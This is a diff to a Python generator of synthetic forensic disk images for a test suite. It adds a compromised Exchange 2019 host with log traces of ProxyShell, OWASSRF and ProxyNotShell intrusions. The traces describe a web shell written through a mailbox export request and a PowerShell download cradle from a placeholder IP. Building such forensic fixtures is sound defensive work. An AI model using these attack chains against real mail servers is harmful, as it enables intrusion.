+                  "MajorVersion": a, "MinorVersion": b, "BuildVersion": c, "RevisionVersion": rev,
+                  "UrlHost": srv.fqdn, "UrlStem": "/powershell", "AuthenticationType": "Kerberos", "IsAuthenticated": "true",
+                  "AuthenticatedUser": user, "ClientIpAddress": hops, "ServerHostName": srv.short, "FrontEndServer": srv.fqdn.upper(),
+                  "HttpStatus": status, "SubStatus": 0, "RequestBytes": 2946, "ClientInfo": info, "ActivityContextLifeTime": 236,
+                  "TotalTime": 236, "UrlQuery": f"?PSVersion={srv.os_build}",
+                  "GenericInfo": "S:ServiceCommonMetadata.HttpMethod=POST;"}
+        log.add(csv_row(named_row(RPS_HTTP_FIELDS, values)), trace)
+    tree.write_log(f"{srv.exch_rel}/Logging/CmdletInfra/Powershell-Proxy/Http/Rps_Http_2022121309-1.LOG", log, bom=True)
+
+
+def mbx_benign_files(h: Host) -> None:
+    """Registry placeholders."""
+    tree = h.tree
+    tree.write_bytes("Windows/System32/config/SYSTEM", regf_placeholder("SYSTEM", d(2022, 12, 13, 10, 50)))
+    tree.write_bytes("Windows/System32/config/SOFTWARE", regf_placeholder("SOFTWARE", d(2022, 12, 13, 10, 51)))
+
+
+def mbx_event_log_traces(h: Host) -> None:
+    """Trace rows for the event logs (Swift writer, Tests/TestSupport/SampleEventLogs.swift)."""
+    tree = h.tree
+    for rel, record, trace in [
+        ("MSExchange Management.evtx", 2201, Trace("C15", "New-ManagementRoleAssignment -Role \"Mailbox Import Export\" (ProxyShell)", "T1098", T_LIKELY)),
+        ("MSExchange Management.evtx", 2202, Trace("C15", f"New-MailboxExportRequest -FilePath {PS_SHELL_UNC}", "CVE-2021-31207 / T1505.003", T_CONFIRMED)),
+        ("MSExchange Management.evtx", 2203, Trace("C15", "Remove-MailboxExportRequest (clean-up)", "T1070", T_LIKELY)),
+        ("Security.evtx", 310415, Trace("C15", "4688 w3wp.exe (MSExchangePowerShellAppPool) -> cmd.exe after the OWASSRF session",
+                                        "CVE-2022-41082 / T1505.003", T_CONFIRMED)),
+        ("Security.evtx", 310416, Trace("C15", "4688 cmd.exe -> powershell.exe download cradle from 198.51.100.99", "T1059.001", T_CONFIRMED)),
+    ]:
+        tree.add_trace(f"Windows/System32/winevt/Logs/{rel}", record, trace)
+
+
+def mbx_build_and_coverage_notes(h: Host) -> None:
+    """Build, coverage and the empty stock folder."""
+    tree, srv = h.tree, h.srv
+    tree.add_trace(f"{srv.exch_rel}/Logging/HttpProxy/Ecp/HttpProxy_2021081311-1.LOG", 2,
+                   Trace("C02", "#Version: 15.02.0858.005 = Exchange 2019 CU9 without any SU: lacks the fixes for ProxyShell, "
+                                "ProxyNotShell, OWASSRF and the later Exchange CVEs", "-", T_INFO))
+    tree.add_trace(f"{srv.exch_rel}/Logging/HttpProxy/", None,
+                   Trace("C01", "HttpProxy 2021-08-13 11:00-12:59 and 2022-12-13 09:00-10:59 only; IIS both days", "-", T_INFO))
+    tree.add_trace("inetpub/wwwroot/aspnet_client/system_web/4_0_30319/.gitkeep", None,
+                   Trace("C09", "zero-byte git placeholder that keeps the empty stock folder (see README)", "-", T_NONE))
+
+
+MBX_ACTIVITY = (mbx_everyday_traffic, mbx_admin_work, mbx_proxyshell_chain, mbx_proxyshell_shell_use, mbx_proxyshell_scanner,
+                mbx_owassrf_chain, mbx_proxynotshell_probe)
+MBX_DISK = (mbx_stock_server_files, mbx_planted_files, mbx_benign_files)
+MBX_NOTES = (mbx_event_log_traces, mbx_build_and_coverage_notes)
+
+
+def make_later_chains(root: pathlib.Path) -> Tree:
+    srv = mbx02()
+    return build_host(root, srv, mbx02_layout(srv), MBX_ACTIVITY, MBX_DISK, MBX_NOTES)
+
+
+# --------------------------------------------------------------------------------------
 # README table
 # --------------------------------------------------------------------------------------
 
@@ -2047,7 +2444,8 @@ def make_fleet(out: pathlib.Path) -> dict[str, Tree]:
 
 def generate(images: pathlib.Path) -> dict[str, Tree]:
     trees = {}
-    for name, fn in (("exchange2016-compromised", make_compromised), ("exchange2019-clean", make_clean)):
+    for name, fn in (("exchange2016-compromised", make_compromised), ("exchange2019-clean", make_clean),
+                     ("exchange2019-compromised", make_later_chains)):
         root = images / name
         kept = {}
         if root.exists():
@@ -2064,6 +2462,7 @@ def generate(images: pathlib.Path) -> dict[str, Tree]:
 
 def main(argv: list[str]) -> int:
     unlisted = [f.__name__ for f in EX16_ACTIVITY + EX16_DISK + EX16_NOTES + EX19_ACTIVITY + EX19_DISK + EX19_NOTES
+                + MBX_ACTIVITY + MBX_DISK + MBX_NOTES
                 if f.__name__ not in __doc__]
     assert not unlisted, f"add these scenario functions to the table at the top: {unlisted}"
     ap = argparse.ArgumentParser(description="Generate Samples/images/ trees")
@@ -2079,7 +2478,7 @@ def main(argv: list[str]) -> int:
             tmp_images = pathlib.Path(tmp) / "images"
             generate(tmp_images)
             bad = []
-            for name in ("exchange2016-compromised", "exchange2019-clean"):
+            for name in ("exchange2016-compromised", "exchange2019-clean", "exchange2019-compromised"):
                 a, b = SAMPLES / "images" / name, tmp_images / name
                 # Event logs are checked by SampleEventLogTests (Swift writer), not here.
                 fa = sorted(p.relative_to(a) for p in a.rglob("*") if p.is_file() and not (p.suffix == ".evtx" and p.parent == a / EVTX_DIR))
